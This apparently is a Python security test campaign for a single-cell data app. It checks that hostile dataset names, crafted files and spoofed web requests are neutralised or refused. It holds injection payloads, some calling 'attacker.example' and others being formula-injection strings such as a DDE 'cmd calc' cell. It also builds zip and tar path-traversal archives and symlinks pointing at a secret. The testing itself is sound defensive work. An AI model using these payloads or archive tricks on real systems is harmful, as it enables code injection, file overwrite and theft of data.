"""Hostile names over all pages and reports, hostile files, and a hostile neighbour on the network.

Names: each is spread over cells, genes, types, conditions, donors, columns and gene lists of one dataset; every page
with every tab, both reports and every table are made of it. A name holds when nowhere it is anything but text. Files:
each points to a secret outside itself; it holds when the file is refused and the secret is in no dataset. Web: requests
and websockets with names of hosts and tokens that were not given out; a request holds when it is turned away.
"""

import base64
import html.parser
import http.client
import os
import random
import re
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pandas as pd
import zarr
from google.protobuf.message import Message
from streamlit.testing.v1 import AppTest

from benchmarks.campaigns.tally import Tally, must
from scapp.core.csv_text import csv_text
from scapp.core.errors import ScappError
from scapp.core.installation import PACKAGE, app_folder
from scapp.data.config import KEEP_EVERYTHING
from scapp.data.formats.reader import read
from scapp.data.simulated.blood import BloodConfig, simulate_blood
from scapp.jobs.session import Session
from scapp.reports.csv_tables import tables_of
from scapp.reports.dataset_report import report_html
from scapp.reports.de_report import study_report_html
from scapp.ui.kit.routing import PAGES, page_file
from scapp.workspace.datasets.dataset import Dataset

HOST = "attacker.example"
TEMPLATES = (
    "![n{i}](http://attacker.example/{i})",
    "[n{i}](http://attacker.example/{i})",
    "<img src=http://attacker.example/{i}>",
    "</script><img src=http://attacker.example/{i}>",
    '"><script src="http://attacker.example/{i}"></script>',
    ":red[n{i}]",
    ":material/home: n{i}",
    "$n{i}$",
    "`n{i}`",
    "**n{i}**",
    "n{i}\n# x",
    "http://attacker.example/{i}",
    '=HYPERLINK("http://attacker.example/{i}")',
    "@SUM(1+1)*cmd|' /C calc'!A{i}",
    "../../../etc/passwd{i}",
    "\u202en{i}",
    "n{i}\t+1",
)
LIVE = (
    re.compile(r"(?<!\\)!?\[n\d+(?<!\\)\]\("),
    re.compile(r"(?<!\\):red(?<!\\)\[n\d+"),
    re.compile(r"(?<!\\):material/home(?<!\\): n\d+"),
    re.compile(r"(?<!\\)\$n\d+(?<!\\)\$"),
    re.compile(r"(?<!\\)`n\d+(?<!\\)`"),
    re.compile(r"(?<!\\)\*(?<!\\)\*n\d+"),
    re.compile(r"n\d+\n# x"),
    re.compile(r"http(?<!\\)://attacker\.example/\d+"),
)
"""What markdown would take for more than text."""
PLAIN_FIELDS: dict[str, tuple[str, ...] | None] = {
    "selectbox": ("options", "raw_value"),
    "multiselect": ("options", "raw_values"),
    "text_input": ("default", "value", "placeholder"),
    "text_area": ("default", "value", "placeholder"),
    "plotly_chart": None,
    "arrow_data_frame": ("data",),
    "code": ("code_text",),
    "text": ("body",),
    "json": None,
    "iframe": None,
    "bidi_component": None,
}
"""Fields that browsers show as text, or (of figures) as the little that plotly understands; None for all of them."""
TABS = {
    "map": ("map.tab", ("Map", "Clusters", "Marker genes", "Cell types", "Compare maps")),
    "classify": ("classify.tab", ("Train", "Evaluate", "Annotate this dataset", "Compare")),
    "de": (
        "study.tab",
        ("Study design", "Composition", "Markers", "Genes", "Gene-set scores", "Pathways", "Report"),
    ),
}


def campaign(n: int, seed: int) -> Tally:
    tally, generator = Tally("attack"), random.Random(seed)
    # the server that is ended last may still write while the folder goes
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as name:
        folder = Path(name)
        _names(tally, n, folder, generator)
        _files(tally, folder)
        _web(tally, n, folder, generator)
    return tally


def _names(tally: Tally, n: int, folder: Path, generator: random.Random) -> None:
    names = [generator.choice(TEMPLATES).format(i=i) for i in range(n)]
    dataset = hostile_dataset(folder, names)
    found = " ".join([*seen_on_pages(folder / "workspace", dataset.id), *_in_reports(dataset), *_in_tables(dataset)])
    for i, name in enumerate(names):
        with tally.trial("name", repr(name)):
            alive = re.search(rf"(?<!\d){i}(?!\d)", found)
            must(alive is None, found[max(alive.start() - 150, 0) : alive.end() + 50] if alive else "")


def hostile_dataset(folder: Path, names: list[str]) -> Dataset:
    """A study with markers, scores and comparisons, whose every kind of name is hostile."""
    adata = simulate_blood(BloodConfig(n_cells=900, donors_per_group=3))[::2].copy()
    parts = [names[i::6] or names for i in range(6)]
    adata.obs_names = [f"{parts[0][i % len(parts[0])]} {i}" for i in range(adata.n_obs)]
    n_renamed = min(len(parts[1]), adata.n_vars // 3)
    adata.var_names = [parts[1][i] if i < n_renamed else name for i, name in enumerate(adata.var_names)]
    for column, given in zip(("cell_type", "condition", "donor_id"), parts[2:5], strict=True):
        levels = adata.obs[column].astype("category").cat.categories
        renamed = {level: f"{given[i % len(given)]} {level}" for i, level in enumerate(levels)}
        adata.obs[column] = pd.Categorical(adata.obs[column].astype(str).map(renamed))
    for i, given in enumerate(parts[5]):
        # AnnData takes a slash in a column's name for a folder
        adata.obs[given.replace("/", "∕")] = pd.Categorical(np.where(np.arange(adata.n_obs) % 2, given, names[i]))
    path = folder / "hostile.h5ad"
    adata.write_h5ad(path)
    session = Session(folder / "workspace")
    data = session.run("import", path=str(path), name=f"{names[0]}"[:100])
    data = session.run("prepare", data, **{**KEEP_EVERYTHING, "n_top_genes": 200})
    data = session.run("map", data, representation="pca")
    data = session.run("cluster", data, representation="pca", method="kmeans", n_clusters=3)
    data = session.run("markers", data, groupby="cell_type")
    data = session.run("score", data, typed={names[-1]: "ISG15 IFI6"})
    levels = sorted(adata.obs["condition"].cat.categories)
    study = {"condition_key": "condition", "donor_key": "donor_id", "cell_type_key": "cell_type"}
    data = session.run("study", data, **study, order=levels)
    types = adata.obs["cell_type"].value_counts().index[:1].tolist()
    return session.run("de", data, cell_types=types, compared=levels[1:2])


def seen_on_pages(root: Path, dataset: str) -> list[str]:
    """Texts on any page or tab in which a name would be taken for markup."""
    before = os.environ.get("SCAPP_WORKSPACE")
    os.environ["SCAPP_WORKSPACE"] = str(root)
    found = []
    try:
        at = AppTest.from_file(str(PACKAGE / "ui" / "start.py"), default_timeout=180).run()
        for page in [page.id for page in PAGES]:
            at.switch_page(str(page_file(page)))
            at.query_params["dataset"] = dataset
            at.run()
            key, tabs = TABS.get(page, ("", ()))
            for tab in tabs or ("",):
                if tab:
                    at.session_state[key] = tab
                    at.run()
                strange = [error.value for error in at.error if "went wrong" in error.value]
                must(not strange and not at.exception, f"{page} {tab}: {strange}")
                found += [f"[{page} {tab}] {text}" for text in markup(at)]
    finally:
        os.environ.pop("SCAPP_WORKSPACE")
        if before is not None:
            os.environ["SCAPP_WORKSPACE"] = before
    return list(dict.fromkeys(found))


def strings(message: Message, without: tuple[str, ...]) -> Iterator[str]:
    """Every text in an element, but for the fields that are shown as plain text."""
    for field, value in message.ListFields():
        if field.name in without:
            continue
        repeated = value if isinstance(value, (list, tuple)) or hasattr(value, "__iter__") else [value]
        for item in [value] if isinstance(value, (str, bytes, Message)) else repeated:
            if isinstance(item, Message):
                yield from strings(item, without)
            elif isinstance(item, str):
                yield item


def markup(at: AppTest) -> list[str]:
    """Texts in which a name from the data would be taken for markdown, or for HTML where that is allowed."""
    found = []
    for node in at._tree:  # AppTest has no public list of all elements
        message: Any = getattr(node, "proto", None)
        kind = getattr(node, "type", "")
        without = PLAIN_FIELDS.get(kind, ())
        if not isinstance(message, Message) or without is None:
            continue
        as_html = bool(getattr(message, "allow_html", False)) or kind == "html"
        for text in strings(message, (*without, "id")):
            if any(live.search(text) for live in LIVE) or (as_html and _calls_out(text)):
                found.append(f"{kind}: {text[:300]}")
    return found


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [f"<{tag} {name}={value}>" for name, value in attrs if HOST in (value or "") and name != "title"]


def _calls_out(text: str) -> list[str]:
    parser = _Tags()
    parser.feed(text)
    return parser.found


def _in_reports(dataset: Dataset) -> list[str]:
    return [tag for report in (report_html, study_report_html) for tag in _calls_out(report(dataset))]


def _in_tables(dataset: Dataset) -> list[str]:
    """Cells that a spreadsheet would take for a formula."""
    found = []
    for table in tables_of(dataset).values():
        text = csv_text(table)
        found += re.findall(r'(?:^|[,\n])"?(?:=HYPERLINK|@SUM)[^\n]{0,60}', text)
    return found


SECRET = "the-secret-of-another-user"


def _files(tally: Tally, folder: Path) -> None:
    outside = folder / "outside.txt"
    outside.write_text(f"{SECRET}\n" * 40)
    makers: dict[str, Callable[[Path, Path], None]] = {
        "external storage": _external_storage,
        "external link": _external_link,
        "virtual dataset": _virtual,
        "soft link to nothing": _dangling,
        "link in a circle": _circle,
        "zip with a path outside": _zip_outside,
        "tar with a link": _tar_link,
        "tar with a path outside": _tar_outside,
        "folder with a link": _folder_link,
        "zarr with a link": _zarr_link,
        "a named pipe": _pipe,
        "a sparse matrix that lies": _lying,
        "a shape of a million millions": _vast,
    }
    for name, make in makers.items():
        with tally.trial("file", name):
            place = folder / name.replace(" ", "_")
            place.mkdir()
            path = place / "x.h5ad"
            make(path, outside)
            target = path if path.exists() else next(iter(sorted(place.iterdir())))
            try:
                text = str(read(target).adata)
            except ScappError:
                text = ""
            must(SECRET not in text and not text, f"it was read: {text[:200]}")
            must(not (folder / "escaped.txt").exists(), "a file was written outside")


def _annotated(file: h5py.File, n_cells: int = 3, n_genes: int = 4) -> None:
    for name, length in (("obs", n_cells), ("var", n_genes)):
        group = file.create_group(name)
        group.attrs.update({"encoding-type": "dataframe", "encoding-version": "0.2.0", "_index": "_index"})
        group.attrs["column-order"] = np.array([], dtype="S1")
        group["_index"] = np.array([f"{name}{i}" for i in range(length)], dtype="S")


def _external_storage(path: Path, outside: Path) -> None:
    with h5py.File(path, "w") as file:
        _annotated(file)
        file.create_dataset("X", (3, 4), "u1", external=[(str(outside), 0, 12)])


def _external_link(path: Path, outside: Path) -> None:
    other = outside.with_suffix(".h5")
    if not other.exists():
        with h5py.File(other, "w") as file:
            file["X"] = np.ones((3, 4))
    with h5py.File(path, "w") as file:
        _annotated(file)
        file["X"] = h5py.ExternalLink(str(other), "/X")


def _virtual(path: Path, outside: Path) -> None:
    other = outside.with_suffix(".h5")
    with h5py.File(path, "w") as file:
        _annotated(file)
        layout = h5py.VirtualLayout((3, 4), "f8")
        layout[:] = h5py.VirtualSource(str(other), "X", (3, 4))
        file.create_virtual_dataset("X", layout)


def _dangling(path: Path, outside: Path) -> None:
    with h5py.File(path, "w") as file:
        _annotated(file)
        file["X"] = h5py.SoftLink("/nowhere")


def _circle(path: Path, outside: Path) -> None:
    with h5py.File(path, "w") as file:
        _annotated(file)
        file["layers"] = file["/"]


def _zip_outside(path: Path, outside: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("../../escaped.txt", "x")


def _tar_link(path: Path, outside: Path) -> None:
    with tarfile.open(path, "w") as archive:
        link = tarfile.TarInfo("counts.csv")
        link.type, link.linkname = tarfile.SYMTYPE, str(outside)
        archive.addfile(link)


def _tar_outside(path: Path, outside: Path) -> None:
    with tarfile.open(path, "w") as archive:
        archive.addfile(tarfile.TarInfo("../../escaped.txt"))


def _folder_link(path: Path, outside: Path) -> None:
    (path.parent / "data").mkdir()
    (path.parent / "data" / "counts.csv").symlink_to(outside)


def _zarr_link(path: Path, outside: Path) -> None:
    store = path.with_name("x.zarr")
    zarr.open_group(store, mode="w").create_group("X")
    (store / "X" / "more").symlink_to(outside)


def _pipe(path: Path, outside: Path) -> None:
    os.mkfifo(path)


def _sparse(path: Path, indices: list[int], indptr: list[int], shape: tuple[int, int]) -> None:
    with h5py.File(path, "w") as file:
        _annotated(file)
        group = file.create_group("X")
        group.attrs.update({"encoding-type": "csr_matrix", "encoding-version": "0.1.0", "shape": shape})
        group["data"], group["indices"], group["indptr"] = np.ones(len(indices)), indices, indptr


def _lying(path: Path, outside: Path) -> None:
    _sparse(path, [0, 1, 4], [0, 1, 2, 3], (3, 4))


def _vast(path: Path, outside: Path) -> None:
    _sparse(path, [0, 1, 2], [0, 1, 2, 3], (10**12, 10**12))


PATHS = (
    "/",
    "/map",
    "/_stcore/stream",
    "/media/x.csv",
    "/_stcore/upload_file/a/b",
    "/static/index.js",
    "//map",
    "/app",
)
HOSTS = (
    "attacker.example",
    "localhost.attacker.example",
    "127.0.0.1.nip.io",
    "localhost@attacker.example",
    "",
    "[::2]",
)


def _web(tally: Tally, n: int, folder: Path, generator: random.Random) -> None:
    port = 20_000 + (os.getpid() + 7) % 20_000
    script = [sys.executable, "-m", "streamlit", "run", str(app_folder() / "app.py"), "--server.port", str(port)]
    given = {**os.environ, "SCAPP_WORKSPACE": str(folder / "web"), "SCAPP_TOKEN": "the-right-token"}
    quiet = subprocess.DEVNULL
    server = subprocess.Popen([*script, "--server.headless", "true"], env=given, stdout=quiet, stderr=quiet)
    try:
        _wait_for(port)
        with tally.trial("web", "the right token"):
            must(_ask(port, "/", f"localhost:{port}", f"scapp_{port}=the-right-token", False) == 200, "is kept out")
        for number in range(n):
            path = generator.choice(PATHS)
            wrong_host = generator.random() < 0.5
            host = generator.choice(HOSTS) if wrong_host else f"localhost:{port}"
            token = (
                "the-right-token" if wrong_host else generator.choice(["", "x", "the-right-toke", "THE-RIGHT-TOKEN"])
            )
            with tally.trial("web", f"trial {number}: {path} of {host!r} with {token!r}"):
                status = _ask(port, path, host, f"scapp_{port}={token}", generator.random() < 0.3)
                must(status in (400, 403, 421), f"was answered with {status}")
    finally:
        server.kill()
        server.wait()


def _wait_for(port: int) -> None:
    for _ in range(300):
        try:
            _ask(port, "/_stcore/health", f"localhost:{port}", "", False)
            return
        except OSError:
            time.sleep(0.2)
    raise RuntimeError("the server did not start")


def _ask(port: int, path: str, host: str, cookie: str, websocket: bool) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    headers = {"Host": host, "Cookie": cookie, "Origin": f"http://{host}"}
    if websocket:
        key = base64.b64encode(os.urandom(16)).decode()
        headers |= {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Key": key}
        headers["Sec-WebSocket-Version"] = "13"
    connection.putrequest("GET", path, skip_host=True)
    for name, value in headers.items():
        connection.putheader(name, value)
    connection.endheaders()
    status = connection.getresponse().status
    connection.close()
    return status
